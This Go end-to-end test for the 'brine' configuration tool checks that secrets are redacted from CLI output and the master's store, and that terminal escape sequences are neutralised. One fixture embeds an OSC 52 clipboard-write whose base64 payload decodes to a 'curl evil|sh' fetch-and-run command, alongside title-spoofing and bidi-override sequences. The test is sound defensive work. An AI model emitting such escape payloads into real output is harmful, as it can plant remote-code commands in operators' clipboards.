package main

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"
)

// restartable is a brine daemon the test can stop and start again (a master restart).
type restartable struct {
	t    *testing.T
	args []string
	cmd  *exec.Cmd
	log  bytes.Buffer
}

func startRestartable(t *testing.T, args ...string) *restartable {
	t.Helper()
	p := &restartable{t: t, args: args}
	p.start()
	t.Cleanup(func() {
		p.stop()
		if t.Failed() {
			t.Logf("brine %s:\n%s", strings.Join(args, " "), p.log.String())
		}
	})
	return p
}

func (p *restartable) start() {
	p.t.Helper()
	p.cmd = exec.Command(brineBin, p.args...)
	p.cmd.Stdout, p.cmd.Stderr = &p.log, &p.log
	p.cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := p.cmd.Start(); err != nil {
		p.t.Fatal(err)
	}
}

func (p *restartable) stop() {
	if p.cmd == nil {
		return
	}
	_ = syscall.Kill(-p.cmd.Process.Pid, syscall.SIGKILL)
	_ = p.cmd.Wait()
	p.cmd = nil
}

// rawControl returns the index of the first character a terminal would act on: C0 other than
// newline and tab, DEL, C1 (UTF-8 or a raw byte that is not UTF-8), bidi overrides and
// isolates; -1 if none.
func rawControl(s string) int {
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size == 1,
			r < 0x20 && r != '\n' && r != '\t', r >= 0x7f && r <= 0x9f,
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return i
		}
		i += size
	}
	return -1
}

const e2ePEM = `-----BEGIN PRIVATE KEY-----
MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDpemLineOneXyZ
Zt0pQ3xV6n1K9y2L8wR5tE4uI7oP0aSdFgHjKlZxCvBnM1pemLineTwoQrS
-----END PRIVATE KEY-----
`

// Secrets follow the value end to end, through a real master and a real minion (processes on
// loopback TCP) and the real CLI: a secret through base64encode, upper, templatefile and a
// heredoc, a multi-line PEM key and a sensitive variable are absent from `brine apply` (human
// and --json), from `brine jobs show` before and after a master restart, and from the bytes of
// the master's store file. The same job's diff and error carry terminal escape sequences (clear
// screen, window title, OSC 52 clipboard write, C1 CSI): no raw control character reaches the
// operator's output. A secret scoped by a fact is refused.
func TestSecretsAndEscapesEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a master and a minion")
	}
	const secret, varSecret = "hunter2-Zq9xW", "pa55w0rd-of-var"
	forms := map[string]string{
		"secret": secret, "upper": strings.ToUpper(secret), "base64": base64.StdEncoding.EncodeToString([]byte(secret)),
		"var": varSecret, "upper var": strings.ToUpper(varSecret),
		"pem line 1": "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDpemLineOneXyZ",
		"pem line 2": "Zt0pQ3xV6n1K9y2L8wR5tE4uI7oP0aSdFgHjKlZxCvBnM1pemLineTwoQrS",
	}
	dir, err := os.MkdirTemp("", "brsec")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	mdir := filepath.Join(dir, "master")
	os.MkdirAll(mdir, 0o700)
	writeSecrets := func(apiTarget string) {
		src := fmt.Sprintf("secret \"api\" {\n  value = %q\n  target = %q\n}\nsecret \"pem\" {\n  value = %q\n}\n", secret, apiTarget, e2ePEM)
		if err := os.WriteFile(filepath.Join(mdir, "secrets.hcl"), []byte(src), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	writeSecrets("r1")
	pub, req := freePort(t), freePort(t)
	cfg := filepath.Join(dir, "master.hcl")
	sock := filepath.Join(dir, "m.sock")
	os.WriteFile(cfg, []byte(fmt.Sprintf("publish_addr = \"127.0.0.1:%d\"\nrequest_addr = \"127.0.0.1:%d\"\nheartbeat = \"200ms\"\ncontrol_socket = %q\n", pub, req, sock)), 0o600)
	master := startRestartable(t, "master", "-c", cfg, "--data-dir", mdir)
	mcfg := filepath.Join(dir, "r1.hcl")
	os.WriteFile(mcfg, []byte(fmt.Sprintf("master = \"127.0.0.1\"\npublish_port = %d\nrequest_port = %d\nid = \"r1\"\nheartbeat = \"200ms\"\nmax_backoff = \"300ms\"\nfacts = { role = \"db\" }\n", pub, req)), 0o600)
	startRestartable(t, "minion", "-c", mcfg, "--data-dir", filepath.Join(dir, "r1"))
	waitPong := func() {
		t.Helper()
		deadline := time.Now().Add(30 * time.Second)
		for {
			brine(t, "key", "accept", "--all", "--socket", sock)
			if out, _, code := brine(t, "ping", "r1", "--socket", sock, "--timeout", "2s"); code == 0 && strings.Contains(out, "pong") {
				return
			}
			if time.Now().After(deadline) {
				t.Fatal("r1 does not answer ping")
			}
			time.Sleep(100 * time.Millisecond)
		}
	}
	waitPong()

	target := t.TempDir()
	bundle := writeBundle(t, map[string]string{
		"app.tmpl": "[app]\ntoken = ${token}\n",
		"main.hcl": `
variable "db_pass" {
  type      = string
  sensitive = true
}
file "b64" {
  path    = "` + target + `/b64"
  content = "${base64encode(secret("api"))}\n"
}
file "upper" {
  path    = "` + target + `/upper"
  content = upper(secret("api"))
}
file "tmpl" {
  path    = "` + target + `/app.ini"
  content = templatefile("app.tmpl", { token = secret("api") })
}
file "heredoc" {
  path    = "` + target + `/db.ini"
  content = <<-EOT
    [db]
    password = ${var.db_pass}
    shout    = ${upper(var.db_pass)}
    EOT
}
file "pem" {
  path    = "` + target + `/key.pem"
  content = secret("pem")
}
file "escapes" {
  path    = "` + target + `/escapes"
  content = "clear\u001b[2J title\u001b]0;owned\u0007 clip\u001b]52;c;Y3VybCBldmlsfHNo\u0007 c1\u009b31m bidi\u202eexe\n"
}
exec "leak" {
  command = "printf '%s\\n' ${base64encode(secret("api"))} ${upper(var.db_pass)} >&2; printf 'x\\033[2J\\033]0;t\\007\\033]52;c;SGk=\\007\\302\\233y\\n' >&2; exit 3"
}
`})
	check := func(what, out string, wantJSON bool) {
		t.Helper()
		for name, f := range forms {
			if strings.Contains(out, f) {
				t.Errorf("%s: the %s form of a secret shows:\n%s", what, name, out)
			}
		}
		if i := rawControl(out); i >= 0 {
			t.Errorf("%s: raw control character at byte %d: %q", what, i, out[max(i-20, 0):min(i+20, len(out))])
		}
		if wantJSON {
			for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
				if !json.Valid([]byte(line)) {
					t.Errorf("%s: not JSON: %s", what, line)
				}
			}
		}
	}
	args := []string{"apply", "r1", bundle, "--socket", sock, "--var", "db_pass=" + varSecret, "--timeout", "30s"}
	out, stderr, code := brine(t, args...)
	if code != 2 {
		t.Fatalf("apply: exit %d, want 2 (exec fails)\n%s\n%s", code, out, stderr)
	}
	check("apply", out+stderr, false)
	for _, want := range []string{"(sensitive content)", `\x1b[2J`, `\x1b]52;c;`, `\u009b`, "(sensitive)"} {
		if !strings.Contains(out, want) {
			t.Errorf("apply output lacks %q:\n%s", want, out)
		}
	}
	m := regexp.MustCompile(`job (\S+) sent`).FindStringSubmatch(stderr)
	if m == nil {
		t.Fatalf("no job id in %q", stderr)
	}
	jid := m[1]
	// The files hold the real values: only what is shown is redacted.
	if got, _ := os.ReadFile(filepath.Join(target, "db.ini")); !strings.Contains(string(got), strings.ToUpper(varSecret)) {
		t.Fatalf("db.ini: %q", got)
	}
	if got, _ := os.ReadFile(filepath.Join(target, "key.pem")); string(got) != e2ePEM {
		t.Fatalf("key.pem: %q", got)
	}

	os.RemoveAll(target)
	os.MkdirAll(target, 0o755)
	out, stderr, _ = brine(t, append(args, "--json")...)
	check("apply --json", out, true)
	check("apply --json stderr", stderr, false)
	if !strings.Contains(out, `\u001b[2J`) {
		t.Errorf("apply --json lost the escaped ESC:\n%s", out)
	}

	jobsShow := func(when string) {
		t.Helper()
		out, stderr, code := brine(t, "jobs", "show", jid, "--socket", sock, "-v")
		if code != 0 && code != 2 || !strings.Contains(out, "(sensitive content)") {
			t.Fatalf("jobs show %s: exit %d\n%s\n%s", when, code, out, stderr)
		}
		check("jobs show "+when, out+stderr, false)
		out, _, _ = brine(t, "jobs", "show", jid, "--socket", sock, "--json")
		check("jobs show --json "+when, out, true)
	}
	jobsShow("before restart")
	master.stop()
	master.start()
	deadline := time.Now().Add(20 * time.Second)
	for {
		if _, _, code := brine(t, "jobs", "show", jid, "--socket", sock); code == 0 || code == 2 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("master did not come back")
		}
		time.Sleep(100 * time.Millisecond)
	}
	jobsShow("after restart")

	// Not one form of any secret in the bytes of the store (bbolt keeps whole pages, so a
	// value written once would still be there).
	master.stop()
	db, err := os.ReadFile(filepath.Join(mdir, "master.db"))
	if err != nil {
		t.Fatal(err)
	}
	// Returns are kept as the minion signed them, base64 inside the record's JSON: the store's
	// bytes are searched as they are and with every base64 run decoded.
	hay := [][]byte{db}
	for _, run := range regexp.MustCompile(`[A-Za-z0-9+/]{16,}={0,2}`).FindAll(db, -1) {
		if dec, err := base64.StdEncoding.DecodeString(string(run)); err == nil {
			hay = append(hay, dec)
		}
	}
	if !bytes.Contains(db, []byte(jid)) || !bytes.Contains(bytes.Join(hay, nil), []byte("(sensitive content)")) {
		t.Fatal("the store does not hold the job and its return where the test looks: wrong file or encoding?")
	}
	for name, f := range forms {
		for _, h := range hay {
			if bytes.Contains(h, []byte(f)) {
				t.Errorf("the %s form of a secret is in master.db", name)
			}
		}
	}

	// A secret scoped by a fact (the minion claims role=db) is refused, and nothing is sent.
	master.start()
	waitPong()
	writeSecrets("fact:role=db")
	out, stderr, code = brine(t, "apply", "r1", bundle, "--socket", sock, "--var", "db_pass=x", "--timeout", "10s")
	if code != 1 || !strings.Contains(stderr, "claimed by the minion") {
		t.Fatalf("fact-scoped secret: exit %d\n%s\n%s", code, out, stderr)
	}
}
